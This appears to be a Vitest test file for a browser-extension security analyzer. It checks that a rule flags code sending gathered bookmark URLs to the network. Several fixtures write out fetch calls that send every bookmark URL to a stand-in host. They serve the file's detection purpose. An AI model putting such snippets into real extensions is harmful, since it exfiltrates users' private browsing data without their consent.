import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/** Rules at low severity or above for a background script that gathers addresses of bookmarks and does `then` with them. */
async function told(put: string, then: string): Promise<string[]> {
  const gather = `const all = async (id) => { let urls = []; for (const item of await chrome.bookmarks.getChildren(id)) { if (item.url) urls.push(item.url); else { const inner = await all(item.id); ${put} } } return urls; };`;
  const files = {
    'manifest.json':
      '{"manifest_version": 3, "name": "Tabs", "version": "1", "permissions": ["bookmarks", "tabs"], "background": {"service_worker": "b.js"}}',
    'b.js': `${gather} chrome.bookmarks.onCreated.addListener(async (id) => { const urls = await all(id); ${then} });`,
  };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.flatMap(({ rule }) => (/-to-network$/.test(rule) ? [rule] : []));
}

it.each(['urls = urls.concat(inner);', 'urls.push(...inner);'])(
  'takes an address that went through lists for what is opened, not for what is told: %s',
  async (put) => {
    expect(await told(put, 'urls.forEach((url) => chrome.tabs.create({ url, active: false }));')).toEqual([]);
  },
);

it.each([
  ['urls = urls.concat(inner);', "fetch(['https://x.example/?q='].concat(urls).join(''));"],
  ['urls = urls.concat(inner);', 'fetch(`https://x.example/?q=${urls}`);'],
  ['urls.push(...inner);', "urls.forEach((url) => fetch('https://x.example/?q=' + url));"],
  ['urls.push(...inner);', "fetch('https://x.example/', { method: 'POST', body: JSON.stringify(urls) });"],
])('and tells what stands behind an address: %s %s', async (put, then) => {
  expect(await told(put, then)).toEqual(['private-data-to-network']);
});
